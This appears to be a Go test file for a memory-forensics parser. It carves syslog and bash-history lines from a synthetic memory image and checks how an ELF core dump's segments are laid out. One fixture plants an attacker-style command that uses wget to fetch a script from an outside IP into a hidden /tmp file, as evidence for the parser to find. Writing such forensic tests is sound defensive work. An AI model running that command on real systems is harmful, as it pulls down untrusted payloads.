package memory

import (
	"bytes"
	"context"
	"encoding/binary"
	"strings"
	"testing"
	"time"

	"github.com/kiseki-forensics/kiseki/parsers"
	"github.com/kiseki-forensics/kiseki/timeline"
)

func bytesInput(t *testing.T, name string, data []byte) *parsers.Input {
	return &parsers.Input{Name: name, Evidence: "E0009", Host: "web01", ReaderAt: bytes.NewReader(data), Size: int64(len(data)),
		ModTime: time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC), ZoneSource: "default",
		Warn: func(m string) { t.Errorf("warning: %s", m) }}
}

func TestParseCarvedLines(t *testing.T) {
	data := make([]byte, 1<<16)
	noise(data, 11)
	syslogLine := "Nov 27 23:10:36 web01 sshd[4242]: Accepted password for root from 203.0.113.5 port 52100 ssh2"
	history := "#1764284400\nwget -q http://203.0.113.9/k.sh -O /tmp/.k\n"
	at1, at2 := 10000, 30001
	copy(data[at1:], "\x00"+syslogLine+"\n\x00")
	copy(data[at2:], "\x00"+history+"\x00")
	s := &sink{}
	if err := Parse(context.Background(), bytesInput(t, "mem.raw", data), s); err != nil {
		t.Fatal(err)
	}
	var sys, hist *timeline.Event
	for i := range s.events {
		switch s.events[i].Source {
		case "syslog":
			sys = &s.events[i]
		case FormatName:
			hist = &s.events[i]
		}
	}
	if sys == nil || hist == nil {
		t.Fatalf("events %+v: want a syslog and a bash-history event", s.events)
	}
	want := time.Date(2026, 11, 27, 23, 10, 36, 0, time.UTC).UnixNano()
	if sys.Time != want || sys.Offset != int64(at1+1) || !strings.Contains(sys.Tags, TagCarved) || sys.Line != timeline.Absent {
		t.Errorf("syslog event: time %v offset %d tags %q line %d", sys.UTC(), sys.Offset, sys.Tags, sys.Line)
	}
	if hist.Time != 1764284400*1e9 || hist.Message != "wget -q http://203.0.113.9/k.sh -O /tmp/.k" ||
		hist.Action != timeline.ActionExecute || hist.Offset != int64(at2+1+12) || hist.Tags != "bash-history,carved" {
		t.Errorf("bash-history event: %+v", *hist)
	}
	// Without an ArtifactSink the other findings are only counted: nothing
	// else reaches the sink.
	if len(s.events) != 2 {
		t.Errorf("%d events, want 2", len(s.events))
	}
}

func TestParseNeedsReaderAt(t *testing.T) {
	in := bytesInput(t, "mem.raw", nil)
	in.ReaderAt = nil
	if err := Parse(context.Background(), in, &sink{}); err == nil || !strings.Contains(err.Error(), "random access") {
		t.Errorf("error %v", err)
	}
}

// elfCore builds a minimal ELF64 core file with one PT_LOAD per segment,
// as QEMU dump-guest-memory writes them: physical addresses in p_paddr.
func elfCore(segs []struct {
	paddr, vaddr uint64
	data         []byte
}) []byte {
	const ehsize, phsize = 64, 56
	var b bytes.Buffer
	h := make([]byte, ehsize)
	copy(h, "\x7fELF\x02\x01\x01")
	le := binary.LittleEndian
	le.PutUint16(h[16:], 4)  // ET_CORE
	le.PutUint16(h[18:], 62) // EM_X86_64
	le.PutUint32(h[20:], 1)
	le.PutUint64(h[32:], ehsize) // e_phoff
	le.PutUint16(h[52:], ehsize)
	le.PutUint16(h[54:], phsize)
	le.PutUint16(h[56:], uint16(len(segs)))
	b.Write(h)
	off := uint64(ehsize + phsize*len(segs))
	for _, s := range segs {
		p := make([]byte, phsize)
		le.PutUint32(p[0:], 1) // PT_LOAD
		le.PutUint32(p[4:], 6)
		le.PutUint64(p[8:], off)
		le.PutUint64(p[16:], s.vaddr)
		le.PutUint64(p[24:], s.paddr)
		le.PutUint64(p[32:], uint64(len(s.data)))
		le.PutUint64(p[40:], uint64(len(s.data)))
		b.Write(p)
		off += uint64(len(s.data))
	}
	for _, s := range segs {
		b.Write(s.data)
	}
	return b.Bytes()
}

func TestELFPhysical(t *testing.T) {
	seg := func(s string) []byte { b := make([]byte, 8192); copy(b[100:], s); return b }
	img := elfCore([]struct {
		paddr, vaddr uint64
		data         []byte
	}{
		{0x0, 0, seg("\x00boot 198.51.100.1\x00")},
		{0x100000, 0, seg("\x00mail admin@example.org\x00")},
	})
	lay, finds := scanImage(t, img)
	if lay.Container != ContainerELF || len(lay.Ranges) != 2 || lay.Ranges[1].Phys != 0x100000 || lay.Ranges[0].Phys != 0 || lay.Ranges[1].Virt != Absent {
		t.Fatalf("layout %+v", lay)
	}
	if len(finds) != 2 || finds[0].Phys != 106 || finds[1].Phys != 0x100000+106 || finds[1].Value != "admin@example.org" {
		t.Errorf("findings %+v", finds)
	}
	checkBytes(t, img, finds)
}

func scanImage(t *testing.T, img []byte) (*Layout, []got) {
	lay, err := Open(bytes.NewReader(img), int64(len(img)))
	if err != nil {
		t.Fatal(err)
	}
	var out []got
	_, err = Scan(context.Background(), bytes.NewReader(img), lay, Options{}, func(f *Finding) error {
		out = append(out, got{f.Kind, f.Offset, f.Phys, f.Virt, f.Encoding, string(f.Value), string(f.Context), ""})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return lay, out
}
